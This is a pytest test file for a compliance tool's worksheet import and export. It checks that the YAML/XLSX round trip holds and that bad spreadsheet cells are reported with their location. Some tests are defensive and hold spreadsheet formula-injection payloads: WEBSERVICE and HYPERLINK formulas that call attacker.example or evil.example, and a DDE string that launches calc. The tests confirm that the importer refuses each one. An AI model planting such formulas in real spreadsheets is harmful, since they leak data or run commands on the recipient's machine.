"""Worksheets: the rows are exactly the items no rule decides; YAML → XLSX → YAML gives the same text;
a bad spreadsheet cell is a located error (sheet, row, column, fix) with exit 2."""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook

from compliance.attest import worksheet
from compliance.scanner import ScanOptions, scan
from xzgov.cli.main import _dispatch
from xzgov.core.errors import ExitCode, UsageError
from xzgov.core.text import printable_text

from .conftest import FIXTURE


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = tmp_path_factory.mktemp("ws") / "register"
    shutil.copytree(FIXTURE, target)
    return target


@pytest.fixture(scope="module")
def document(root: Path) -> dict[str, object]:
    return worksheet.template(root, "clean-l3")


def test_rows_are_the_items_no_rule_decides(root: Path, document: dict[str, object]) -> None:
    report = scan(ScanOptions(root=root, systems=("clean-l3",), use_attestations=False)).systems[0]
    undecided = [item.item_id for item in report.items if not item.rules]
    rows = worksheet.rows_of(document)
    assert [row["item"] for row in rows] == undecided
    assert len(rows) < len(report.items)  # the rule-decided items are not on the sheet
    by_item = {row["item"]: row for row in rows}
    physical = by_item["GB/T 22239-2019:8.1.1.1.a"]
    assert physical["responsibility"] == "云平台" and physical["method"] == ["核查"]
    assert physical["unit"] == "L3-PES1-01" and physical["evidence_expected"]
    interview = next(row for row in rows if str(row["unit"]).startswith("L3-ORS"))
    assert interview["method"] == ["访谈", "核查"] and interview["result"] is None


def test_yaml_xlsx_yaml_round_trip(tmp_path: Path, document: dict[str, object]) -> None:
    yaml_text = worksheet.render(document)
    xlsx = worksheet.write_xlsx(document, tmp_path / "ws.xlsx")
    assert worksheet.render(worksheet.read_xlsx(xlsx)) == yaml_text
    # and through the command line
    out = tmp_path / "back.yaml"
    assert _dispatch(["attest", "import", str(xlsx), "--out", str(out)]) == ExitCode.OK
    assert out.read_text(encoding="utf-8") == yaml_text


def test_a_filled_spreadsheet_comes_back_with_its_answers(tmp_path: Path, document: dict[str, object]) -> None:
    xlsx = worksheet.write_xlsx(document, tmp_path / "ws.xlsx")
    book = load_workbook(xlsx)
    sheet = book[worksheet.SHEET_ROWS]
    sheet["H2"], sheet["I2"], sheet["J2"] = "符合", "核查云平台等级测评报告 §5.1", "evidence/a.pdf\nevidence/b.pdf"
    info = book[worksheet.SHEET_INFO]
    for row in info.iter_rows(min_row=2):
        if row[0].value == "证明人 name":
            row[1].value = "次仁"
        if row[0].value == "日期 date":
            row[1].value = "2026-03-01"
    book.save(xlsx)
    back = worksheet.read_xlsx(xlsx)
    first = worksheet.rows_of(back)[0]
    assert first["result"] == "符合" and first["reason"] == "核查云平台等级测评报告 §5.1"
    assert first["evidence"] == [{"file": "evidence/a.pdf"}, {"file": "evidence/b.pdf"}]
    assert back["attested_by"] == {"name": "次仁"} and back["date"] == "2026-03-01"
    assert worksheet.rows_of(back)[1]["result"] is None


def test_the_assessors_high_risk_judgement_comes_back_and_an_older_sheet_still_reads(
    tmp_path: Path, document: dict[str, object]
) -> None:
    """高风险 (是/否): the assessor's judgement of a 不符合 after weighing the guide's mitigations; a worksheet made
    before the column existed (eleven columns) is read as before."""
    xlsx = worksheet.write_xlsx(document, tmp_path / "ws.xlsx")
    book = load_workbook(xlsx)
    sheet = book[worksheet.SHEET_ROWS]
    sheet["H2"], sheet["I2"], sheet["L2"] = "不符合", "越权访问可行, 无缓解措施", "是"
    sheet["H3"], sheet["I3"], sheet["L3"] = "不符合", "越权访问受限于登录地址限制", "否"
    book.save(xlsx)
    rows = worksheet.rows_of(worksheet.read_xlsx(xlsx))
    assert (rows[0]["high_risk"], rows[1]["high_risk"]) == (True, False) and "high_risk" not in rows[2]
    assert "high_risk: true" in worksheet.render(worksheet.read_xlsx(xlsx))
    sheet["L2"] = "也许"
    book.save(xlsx)
    with pytest.raises(UsageError) as caught:
        worksheet.read_xlsx(xlsx, "ws.xlsx")
    (problem,) = caught.value.diagnostics
    assert (problem.line, problem.column) == (2, 12) and "not a judgement" in problem.message
    sheet.delete_cols(12)
    book.save(xlsx)
    assert "high_risk" not in worksheet.rows_of(worksheet.read_xlsx(xlsx))[0]


@pytest.mark.parametrize(("cell", "value", "column", "words"), [
    ("H3", "基本符合", 8, "is not a result"),
    ("E4", "抽查", 5, "unknown method"),
    ("A5", "8.1.1.1.a", 1, "not a catalogue item id"),
    ("C1", "名称", 3, "expected '标题 title'"),
])
def test_a_bad_cell_is_located(tmp_path: Path, document: dict[str, object], cell: str, value: str, column: int,
                               words: str) -> None:
    xlsx = worksheet.write_xlsx(document, tmp_path / "ws.xlsx")
    book = load_workbook(xlsx)
    book[worksheet.SHEET_ROWS][cell] = value
    book.save(xlsx)
    with pytest.raises(UsageError) as caught:
        worksheet.read_xlsx(xlsx, "ws.xlsx")
    assert caught.value.exit_code is ExitCode.USAGE
    (problem,) = caught.value.diagnostics
    assert problem.file == "ws.xlsx[核查表]" and problem.line == int(cell[1:]) and problem.column == column
    assert words in problem.message and problem.hint
    assert _dispatch(["attest", "import", str(xlsx), "--out", str(tmp_path / "x.yaml")]) == ExitCode.USAGE
    assert not (tmp_path / "x.yaml").exists()


def test_an_item_on_two_rows_is_located_at_the_second(tmp_path: Path, document: dict[str, object]) -> None:
    """The import kept one of two rows of the same item and dropped the other's result in silence."""
    xlsx = worksheet.write_xlsx(document, tmp_path / "ws.xlsx")
    book = load_workbook(xlsx)
    sheet = book[worksheet.SHEET_ROWS]
    sheet["A5"] = sheet["A3"].value
    book.save(xlsx)
    with pytest.raises(UsageError) as caught:
        worksheet.read_xlsx(xlsx, "ws.xlsx")
    (problem,) = caught.value.diagnostics
    assert (problem.line, problem.column) == (5, 1) and "also on row 3" in problem.message
    assert "one row per item" in problem.hint
    assert _dispatch(["attest", "import", str(xlsx), "--out", str(tmp_path / "x.yaml")]) == ExitCode.USAGE
    assert not (tmp_path / "x.yaml").exists()


@pytest.mark.parametrize(("label", "value", "words"), [
    ("记录编号 id", None, "empty"),  # was dropped: the YAML had no id, refused only when signing
    ("记录编号 id", "att 1", "has the wrong format"),
    ("部门 department", "", "empty"),
    ("部门 department", "DSJJ", "has the wrong format"),
    ("范围 scope", "platform", "one system"),
    ("范围 scope", "全部", "is not an allowed value"),
    ("系统 system", None, "empty"),
])
def test_an_info_cell_the_set_cannot_carry_is_located(tmp_path: Path, document: dict[str, object], label: str,
                                                      value: str | None, words: str) -> None:
    xlsx = worksheet.write_xlsx(document, tmp_path / "ws.xlsx")
    book = load_workbook(xlsx)
    line = 0
    for row in book[worksheet.SHEET_INFO].iter_rows(min_row=2):
        if row[0].value == label:
            row[1].value, line = value, row[0].row
    book.save(xlsx)
    with pytest.raises(UsageError) as caught:
        worksheet.read_xlsx(xlsx, "ws.xlsx")
    problems = [(p.file, p.line, p.column) for p in caught.value.diagnostics]
    assert ("ws.xlsx[说明]", line, 2) in problems, caught.value.diagnostics
    assert any(words in p.message for p in caught.value.diagnostics), caught.value.diagnostics
    assert _dispatch(["attest", "import", str(xlsx), "--out", str(tmp_path / "x.yaml")]) == ExitCode.USAGE
    assert not (tmp_path / "x.yaml").exists()


def test_an_info_field_given_twice_is_refused_not_the_last_taken(tmp_path: Path, root: Path,
                                                                  document: dict[str, object]) -> None:
    """A review: a second (hidden) 系统 system row on the 说明 sheet silently replaced the visible one — the set
    was imported for another system; and `import --out` wrote into systems/, which every command then refused."""
    xlsx = worksheet.write_xlsx(document, tmp_path / "ws.xlsx")
    book = load_workbook(xlsx)
    info = book[worksheet.SHEET_INFO]
    extra = info.max_row + 1
    info.cell(extra, 1, "系统 system")
    info.cell(extra, 2, "medical-insurance")
    info.row_dimensions[extra].hidden = True
    book.save(xlsx)
    with pytest.raises(UsageError) as caught:
        worksheet.read_xlsx(xlsx, "ws.xlsx")
    assert [(p.file, p.line) for p in caught.value.diagnostics] == [("ws.xlsx[说明]", extra)]
    assert "given twice" in caught.value.diagnostics[0].message
    clean = worksheet.write_xlsx(document, tmp_path / "clean.xlsx")
    inside = root / "systems" / "dsjj" / "ws.yaml"
    assert _dispatch(["attest", "import", str(clean), "--out", str(inside), "--root", str(root)]) == ExitCode.USAGE
    assert not inside.exists()


def test_a_bad_level_on_the_info_sheet_and_a_missing_sheet(tmp_path: Path, document: dict[str, object]) -> None:
    xlsx = worksheet.write_xlsx(document, tmp_path / "ws.xlsx")
    book = load_workbook(xlsx)
    for row in book[worksheet.SHEET_INFO].iter_rows(min_row=2):
        if row[0].value == "等级 level":
            row[1].value = "三级"
            line = row[0].row
    book.save(xlsx)
    with pytest.raises(UsageError) as caught:
        worksheet.read_xlsx(xlsx, "ws.xlsx")
    (problem,) = caught.value.diagnostics
    assert (problem.file, problem.line, problem.column) == ("ws.xlsx[说明]", line, 2)
    del book[worksheet.SHEET_ROWS]
    book.save(xlsx)
    with pytest.raises(UsageError, match="not an xzgov worksheet"):
        worksheet.read_xlsx(xlsx)
    (tmp_path / "not.xlsx").write_text("plain text", encoding="utf-8")
    with pytest.raises(UsageError, match="XLSX"):
        worksheet.read_xlsx(tmp_path / "not.xlsx")


def test_template_command_writes_both_forms(tmp_path: Path, root: Path) -> None:
    for name in ("ws.yaml", "ws.xlsx"):
        assert _dispatch(["attest", "template", "clean-l3", "--root", str(root), "--out", str(tmp_path / name)]) \
            == ExitCode.OK
    assert worksheet.render(worksheet.read_xlsx(tmp_path / "ws.xlsx")) == \
        (tmp_path / "ws.yaml").read_text(encoding="utf-8")
    assert _dispatch(["attest", "template", "no-such-system", "--root", str(root), "--out",
                      str(tmp_path / "x.yaml")]) == ExitCode.USAGE
    assert _dispatch(["attest", "template", "clean-l3", "--root", str(root), "--out",
                      str(tmp_path / "x.csv")]) == ExitCode.USAGE


@pytest.mark.parametrize(("cell", "formula", "cached"), [
    ("H2", '=IF(WEBSERVICE("http://attacker.example/x")="","符合","符合")', "符合"),
    ("I2", '=HYPERLINK("http://attacker.example/","已核查")', "已核查"),
])
def test_a_formula_is_refused_not_its_cached_value_taken(tmp_path: Path, document: dict[str, object], cell: str,
                                                         formula: str, cached: str) -> None:
    """The workbook was read for cached values: a formula calling out imported as the assessor's 符合."""
    xlsx = worksheet.write_xlsx(document, tmp_path / "ws.xlsx")
    book = load_workbook(xlsx)
    book[worksheet.SHEET_ROWS][cell] = formula
    book.save(xlsx)
    with pytest.raises(UsageError) as caught:
        worksheet.read_xlsx(xlsx, "ws.xlsx")
    assert [(p.line, p.column) for p in caught.value.diagnostics] == [(2, ord(cell[0]) - ord("A") + 1)]
    assert "formula" in caught.value.diagnostics[0].message


def test_a_superscript_level_is_a_located_error(tmp_path: Path, document: dict[str, object]) -> None:
    """'²' passed isdigit() and crashed int() (exit 3)."""
    xlsx = worksheet.write_xlsx(document, tmp_path / "ws.xlsx")
    book = load_workbook(xlsx)
    for row in book[worksheet.SHEET_INFO].iter_rows(min_row=2):
        if row[0].value == "等级 level":
            row[1].value = "²"
    book.save(xlsx)
    with pytest.raises(UsageError) as caught:
        worksheet.read_xlsx(xlsx, "ws.xlsx")
    assert "not a level" in caught.value.diagnostics[0].message


def test_an_oversized_cell_is_located_and_nothing_is_written(tmp_path: Path, document: dict[str, object]) -> None:
    """A reason of any length was imported (an 800-million-character title: 9 minutes, 4.6 GB, exit 0)."""
    xlsx = worksheet.write_xlsx(document, tmp_path / "ws.xlsx")
    book = load_workbook(xlsx)
    book[worksheet.SHEET_ROWS]["I2"] = "核" * (worksheet.MAX_CELL_CHARS + 1)
    book.save(xlsx)
    with pytest.raises(UsageError) as caught:
        worksheet.read_xlsx(xlsx, "ws.xlsx")
    (problem,) = caught.value.diagnostics
    assert (problem.file, problem.line, problem.column) == ("ws.xlsx[核查表]", 2, 9)
    assert "more than the 4,000" in problem.message and problem.hint
    assert _dispatch(["attest", "import", str(xlsx), "--out", str(tmp_path / "x.yaml")]) == ExitCode.USAGE
    assert not (tmp_path / "x.yaml").exists()


def test_a_workbook_that_unpacks_beyond_the_limit_is_refused_before_it_is_read(
        tmp_path: Path, document: dict[str, object], monkeypatch: pytest.MonkeyPatch) -> None:
    """The 20 MB limit was checked on the packed file only: a zip of 0.8 MB unpacked to 800 MB. (The limit is
    lowered here to the template's own size so the test writes no such file.)"""
    xlsx = worksheet.write_xlsx(document, tmp_path / "ws.xlsx")
    unpacked = worksheet._unpacked_size(xlsx)
    assert unpacked is not None and 0 < unpacked < worksheet.MAX_UNPACKED_BYTES
    worksheet.read_xlsx(xlsx)  # within the limit: read
    monkeypatch.setattr(worksheet, "MAX_UNPACKED_BYTES", unpacked - 1)
    with pytest.raises(UsageError) as caught:
        worksheet.read_xlsx(xlsx, "ws.xlsx")
    (problem,) = caught.value.diagnostics
    assert f"unpacks to {unpacked:,} bytes" in problem.message and problem.hint


@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/x","政务")', "=1+1", "政务\x07平台",
                                   "+cmd|' /C calc'!A0", "政务\ufffe平台", "政务平台\uffff"])
def test_text_from_a_manifest_is_never_a_formula_nor_a_crash(tmp_path: Path, document: dict[str, object],
                                                             title: str) -> None:
    # metadata.title comes from the department's manifest: "=…" was written as a formula cell, which spreadsheet
    # programs evaluate on opening (and attest import refused the untouched template); a control character made
    # openpyxl raise (exit 3); U+FFFE / U+FFFF, which XML 1.0 forbids, made the workbook a corrupt file
    hostile = {**document, "metadata": {**document["metadata"], "title": title}}  # type: ignore[dict-item]
    xlsx = worksheet.write_xlsx(hostile, tmp_path / "ws.xlsx")
    book = load_workbook(xlsx)
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row if cell.value is not None]
    shown = printable_text(title)  # control characters escaped, as the reports show them
    titled = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(shown)]
    assert titled and all(cell.data_type == "s" for cell in titled)
    assert not any(cell.data_type == "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
    assert not {"\x07", "\ufffe", "\uffff"} & set(str(titled[0].value))
    back = worksheet.read_xlsx(xlsx)  # the untouched template imports
    assert back["metadata"]["title"] == titled[0].value  # type: ignore[index]


def test_template_names_its_argument_and_reads_no_waiver(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An unknown system was reported at `--system` (the command takes it as its SYSTEM argument); an expired
    waiver of another system refused every worksheet (which rules run, all a worksheet asks, no waiver changes)."""
    target = tmp_path / "register"
    shutil.copytree(FIXTURE, target)
    out = tmp_path / "ws.yaml"
    capsys.readouterr()
    assert _dispatch(["attest", "template", "no-such-system", "--root", str(target), "--out", str(out)]) \
        == ExitCode.USAGE
    err = capsys.readouterr().err
    assert "error [SYSTEM]: no system named no-such-system" in err and "--system" not in err
    waivers = target / "compliance" / "waivers"
    waivers.mkdir(parents=True)
    (waivers / "old.yaml").write_text(
        "apiVersion: xzgov.io/v1\nkind: Waivers\nwaivers:\n  - id: W-2025-001\n    system: bad-mfa\n"
        "    rule: XZ-MAN-AUTH-MFA\n    reason: 改造中\n    approver: {name: 李四, role: 网络安全负责人}\n"
        "    approved: \"2025-01-01\"\n    expires: \"2025-06-30\"\n", encoding="utf-8")
    assert _dispatch(["scan", "--root", str(target), "--unsigned", "--out", str(tmp_path / "scan")]) \
        == ExitCode.USAGE  # the scan itself refuses the expired waiver, as before
    assert _dispatch(["attest", "template", "clean-l3", "--root", str(target), "--out", str(out)]) == ExitCode.OK
    assert worksheet.render(worksheet.template(target, "clean-l3")) == out.read_text(encoding="utf-8")


def _damaged(xlsx: Path, part: str, change: Callable[[str], str]) -> Path:
    """``xlsx`` with one of its sheet parts' XML rewritten by ``change`` (what no spreadsheet program writes)."""
    import zipfile

    damaged = xlsx.with_name(f"damaged-{xlsx.name}")
    with zipfile.ZipFile(xlsx) as source, zipfile.ZipFile(damaged, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            target.writestr(info, change(data.decode()).encode() if info.filename == part else data)
    return damaged


@pytest.mark.parametrize(("part", "change", "sheet"), [
    ("xl/worksheets/sheet1.xml", lambda x: re.sub(r'<c r="B6"[^>]*>.*?</c>', '<c r="B6" t="n"><v>NaN</v></c>', x),
     worksheet.SHEET_INFO),
    ("xl/worksheets/sheet1.xml", lambda x: re.sub(r'<c r="B6"[^>]*>.*?</c>', '<c r="B6" t="d"><v>2026-02-30</v></c>',
                                                  x), worksheet.SHEET_INFO),
    ("xl/worksheets/sheet1.xml", lambda x: re.sub(r'<c r="B6"[^>]*>.*?</c>', '<c r="B6" t="s"><v>999</v></c>', x),
     worksheet.SHEET_INFO),
    ("xl/worksheets/sheet2.xml", lambda x: x.replace('<row r="2"', '<row r="2"><c r="ZZZZZZ2" t="n"><v>1</v></c></row>'
                                                     '<row r="9999"', 1), worksheet.SHEET_ROWS),
    ("xl/worksheets/sheet2.xml", lambda x: x.replace('<row r="2"', '<row r="2"><c r="A2" t="inlineStr"><is><t>\x1b'
                                                     '</t></is></c></row><row r="9999"', 1), worksheet.SHEET_ROWS),
])
def test_a_damaged_sheet_is_a_located_usage_error_not_an_internal_one(
        tmp_path: Path, document: dict[str, object], capsys: pytest.CaptureFixture[str], part: str,
        change: Callable[[str], str], sheet: str) -> None:
    """openpyxl reads a read-only workbook's sheets lazily: a malformed cell (NaN as a number, 2026-02-30 as a date,
    a missing shared string, a column beyond ZZZ, a raw control character) raised while the sheet was read, after
    the guarded load, and came out as "internal error" with exit 3 — the code for a defect of xzgov."""
    xlsx = _damaged(worksheet.write_xlsx(document, tmp_path / "ws.xlsx"), part, change)
    out = tmp_path / "set.yaml"
    assert _dispatch(["attest", "import", str(xlsx), "--out", str(out)]) == ExitCode.USAGE
    err = capsys.readouterr().err
    assert f"error [{sheet}]" in err and "save it again as .xlsx" in err and "internal error" not in err
    assert not out.exists()
